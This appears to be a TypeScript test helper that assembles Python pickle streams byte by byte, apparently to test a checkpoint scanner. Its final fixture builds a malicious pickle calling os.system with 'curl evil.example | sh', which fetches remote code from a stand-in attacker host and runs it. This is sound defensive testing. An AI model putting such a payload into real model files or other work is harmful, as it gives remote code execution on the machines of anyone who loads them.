/** Writes pickle streams opcode by opcode, malicious ones too: they are only ever read, never loaded. */

import { opcode } from '../../../server/src/checkpoint/pickle/opcodes';

type Part = Uint8Array | number | string;
type OpcodeName = keyof typeof opcode;

/** Joins parts; a number is one byte, a string its Latin-1 bytes. */
export function bytesOf(...parts: Part[]): Uint8Array {
  return Buffer.concat(
    parts.map((part) =>
      typeof part === 'number'
        ? Buffer.of(part)
        : typeof part === 'string'
          ? Buffer.from(part, 'latin1')
          : Buffer.from(part),
    ),
  );
}

export function op(name: OpcodeName, ...operand: Part[]): Uint8Array {
  return bytesOf(opcode[name], ...operand);
}

export function uint(value: number, size: number): Uint8Array {
  const bytes = Buffer.alloc(8);
  bytes.writeBigUInt64LE(BigInt(value));
  return bytes.subarray(0, size);
}

export const proto = (version: number): Uint8Array => op('PROTO', version);
export const stop = op('STOP');
export const reduce = op('REDUCE');
export const mark = op('MARK');
export const emptyTuple = op('EMPTY_TUPLE');
export const global = (module: string, name: string): Uint8Array => op('GLOBAL', `${module}\n${name}\n`);

/** SHORT_BINUNICODE, or BINUNICODE where it is too long for that. */
export function text(value: string): Uint8Array {
  const encoded = Buffer.from(value, 'utf8');
  return encoded.length < 256
    ? op('SHORT_BINUNICODE', encoded.length, encoded)
    : op('BINUNICODE', uint(encoded.length, 4), encoded);
}

export const binaryBytes = (value: Uint8Array): Uint8Array => op('BINBYTES', uint(value.length, 4), value);
export const integer = (value: number): Uint8Array => op('BININT', uint(value, 4));
export const stackGlobal = (module: string, name: string): Uint8Array =>
  bytesOf(text(module), text(name), op('STACK_GLOBAL'));

/** `module.name(argument)`, left on the stack. */
export function callWithText(module: string, name: string, argument: string): Uint8Array {
  return bytesOf(global(module, name), text(argument), op('TUPLE1'), reduce);
}

/** A whole stream. */
export function stream(...parts: Part[]): Uint8Array {
  return bytesOf(proto(4), ...parts, stop);
}

/** The stream of the oldest trick there is. */
export const systemCall: Uint8Array = stream(callWithText('os', 'system', 'curl evil.example | sh'));
